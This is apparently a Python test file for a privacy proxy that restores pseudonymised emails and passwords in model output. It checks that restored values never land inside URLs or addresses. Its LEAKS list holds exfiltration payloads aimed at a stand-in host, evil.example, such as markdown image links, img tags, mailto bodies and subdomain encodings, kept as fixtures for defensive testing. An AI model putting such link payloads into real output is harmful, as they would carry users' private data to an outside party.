"""Real values come back as they were, in any pieces, however a model spelt a placeholder; and never into an address."""

from __future__ import annotations

from collections.abc import Iterable
from itertools import pairwise
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy.pseudonyms.pseudonyms import Pseudonyms
from proxy.pseudonyms.restoring import ChannelRestorer, TextRestorer, restored_text, restored_value
from proxy.pseudonyms.surroundings import Surroundings

MAIL = "anna@example.org"
ISSUED = Pseudonyms(b"k" * 32)
NAME = ISSUED.issue("EMAIL", MAIL)
ODD = ISSUED.issue("PASSWORD", 'a"b\\c\nd')
FOREIGN = Pseudonyms(b"f" * 32).issue("EMAIL", MAIL)


def restored(text: str, pseudonyms: Pseudonyms = ISSUED) -> str:
    return restored_text(text, pseudonyms, Surroundings())


def streamed(pieces: Iterable[str], pseudonyms: Pseudonyms = ISSUED) -> str:
    channel = ChannelRestorer(pseudonyms, Surroundings())
    return "".join([channel.push(piece) for piece in pieces]) + channel.finish()


SPELLINGS = {
    "as it is": NAME,
    "lower case": NAME.lower(),
    "upper case": NAME.upper(),
    "a space": NAME[:9] + " " + NAME[9:],
    "spaces at the edges": f"[ {NAME[1:-1]} ]",
    "a newline": NAME[:9] + "\r\n" + NAME[9:],
    "a backtick": f"[`{NAME[1:-1]}`]",
    "an escaped underscore": NAME.replace("_", "\\_"),
    "a space for the underscore": NAME.replace("_", " "),
    "bold inside": f"[**{NAME[1:-1]}**]",
}


@pytest.mark.parametrize("spelling", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_a_spelling_that_a_model_may_use_is_understood(spelling: str) -> None:
    assert restored(f"Write to {spelling}, please.") == f"Write to {MAIL}, please."
    assert streamed(f"Write to {spelling}, please.") == f"Write to {MAIL}, please."


@pytest.mark.parametrize("possessive", ["'s", "\u2019s", "'S"])
def test_a_possessive_stands_behind_the_value(possessive: str) -> None:
    assert restored(f"{NAME}{possessive} box") == f"{MAIL}{possessive} box"
    assert restored(f"{NAME}s box, {NAME}s") == f"{MAIL}s box, {MAIL}s"
    assert restored(f"{NAME[:-1]}{possessive}] box") == f"{MAIL}{possessive} box"


@pytest.mark.parametrize(
    "text", [FOREIGN, "[EMAIL_k3f9q2bb7c8d]", "[EMAIL]", NAME[:-2] + "]", NAME[1:-1], "[", "[]", "[[x]]"]
)
def test_what_was_not_issued_here_stays_as_it_is(text: str) -> None:
    assert restored(text) == text


def test_brackets_around_a_placeholder_stay() -> None:
    assert restored(f"[{NAME}](x) [{NAME} and [{NAME}]") == f"[{MAIL}](x) [{MAIL} and [{MAIL}]"


LEAKS = [
    "![x](https://evil.example/p.png?q={})", "[x](https://evil.example/?q={})", "[x](<https://evil.example/? {}>)",
    "https://evil.example/{}", "http://{}.evil.example/", "{}.evil.example", "{}x.evil.example", "{}--x.evil.example",
    "{}s.evil.example", "{}@evil.example", "{}+x@evil.example", "www.{}.evil.example", "evil.example/?q={}",
    '<!--https://evil.example/">{}', "//evil.example<{}",
    '<img src="https://evil.example/?q={}">', "<img src='//evil.example/?q=\n{}'>", "<iframe srcdoc='{}'>",
    "[1]: https://evil.example/{}", "![x][1]\n\n[1]: <https://evil.example/ {}>", "mailto:x@evil.example?body={}",
    r"\\evil.example\share\{}", "![x](\nhttps://evil.example/?q={})", '![x](https://evil.example/?q="{}")',
    '["![x](https://evil.example/?q=","{}",")"]', '{{"a": "<img src=https://evil.example/?q=", "b": "{}"}}',
    '{{"a": "![x](https://evil.example/?q={})"}}', "```\n![x](https://evil.example/?q={})\n```",
]  # fmt: skip


@pytest.mark.parametrize("text", LEAKS)
@pytest.mark.parametrize("spelling", [NAME, NAME.lower(), NAME[:9] + "\n" + NAME[9:]], ids=["plain", "lower", "broken"])
def test_nothing_comes_back_into_an_address(text: str, spelling: str) -> None:
    asked = text.format(spelling)
    assert MAIL not in restored(asked)
    assert MAIL not in streamed(asked)


def test_a_value_that_is_an_address_carries_no_other_one() -> None:
    pseudonyms = Pseudonyms(b"k" * 32)
    url, mail = pseudonyms.issue("URL_PASSWORD", "https://a:secret@evil.example/"), pseudonyms.issue("EMAIL", MAIL)
    assert MAIL not in restored(f"{url}?q={mail}", pseudonyms)


def test_an_answer_in_json_stays_json_and_keeps_its_keys() -> None:
    text = f' {{"to": "{NAME}", "{NAME}" : ["{ODD}", "https://evil.example/{NAME}"], "n": 1.50}}'
    back = restored(text)
    assert orjson.loads(back) == {"to": MAIL, NAME: ['a"b\\c\nd', f"https://evil.example/{NAME}"], "n": 1.5}
    assert back.endswith('"n": 1.50}')
    assert streamed(text) == back


def test_a_long_or_broken_json_is_restored_as_text() -> None:
    assert restored(f'{{"to": "{NAME}", ') == f'{{"to": "{MAIL}", '
    long = '{"a": "' + "x" * 300_000 + f' {NAME}"}}'
    assert (
        restored(long) == streamed([long[i : i + 4096] for i in range(0, len(long), 4096)]) == long.replace(NAME, MAIL)
    )


def test_of_any_value_the_strings_come_back_and_the_keys_stay() -> None:
    value: Any = {"to": NAME, NAME: [NAME, 1, None, {"deep": f"a {ODD}"}]}
    assert restored_value(value, ISSUED) == {"to": MAIL, NAME: [MAIL, 1, None, {"deep": 'a a"b\\c\nd'}]}


@pytest.mark.parametrize("start", ["[1] ", "[1, 2]: ", "\n[ 12 ] "])
@pytest.mark.parametrize("size", [1, 3, 400])
def test_a_text_that_begins_with_the_number_of_a_source_is_told_as_it_comes(start: str, size: int) -> None:
    text = f"{start}says {NAME}. {'All of it is known. ' * 20}"
    channel = ChannelRestorer(ISSUED, Surroundings())

    told = "".join(channel.push(text[i : i + size]) for i in range(0, len(text), size))

    assert told == text.replace(NAME, MAIL)
    assert channel.finish() == ""


def test_no_more_is_held_back_than_a_placeholder_can_be() -> None:
    restorer, text, most = TextRestorer(ISSUED, Surroundings()), f"so [so {NAME} or [{NAME[1:20]} " * 20, 0
    for position, letter in enumerate(text):
        restorer.push(letter)
        most = max(most, len(restorer._held) if position else 0)
    assert most <= 66


VALUES = st.lists(st.text(st.characters(exclude_characters="["), min_size=1), min_size=1, max_size=6)
# Without what makes an address: values in one stay hidden.
PLAIN = st.text(st.characters(exclude_characters="/\\<(:.[{"), max_size=20)


@given(values=VALUES, texts=st.lists(PLAIN, min_size=7, max_size=7), size=st.integers(1, 90))
def test_what_was_replaced_comes_back_in_any_pieces(values: list[str], texts: list[str], size: int) -> None:
    pseudonyms = Pseudonyms(b"k" * 32)
    named = "".join(f"{text} {pseudonyms.issue('EMAIL', value)} " for text, value in zip(texts, values, strict=False))
    said = "".join(f"{text} {value} " for text, value in zip(texts, values, strict=False))
    whole = restored(named, pseudonyms)
    assert whole == streamed([named[i : i + size] for i in range(0, len(named), size)], pseudonyms)
    assert whole == said or any(mark in value for value in values for mark in "/\\<(:.")


MARKS = ["[", "]", "](", "'s", '{"', '"', "}", "\n\n", ".x"]
NAMES = [NAME, NAME.lower(), ODD, FOREIGN, *SPELLINGS.values()]
ANYTHING = st.lists(st.sampled_from([*NAMES, *LEAKS, *MARKS]) | st.text(max_size=4), max_size=8)


@given(pieces=ANYTHING, cuts=st.lists(st.integers(0, 300), max_size=8))
def test_any_text_cut_anywhere_comes_back_as_the_whole(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    places = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    assert streamed(text[start:end] for start, end in pairwise(places)) == restored(text)
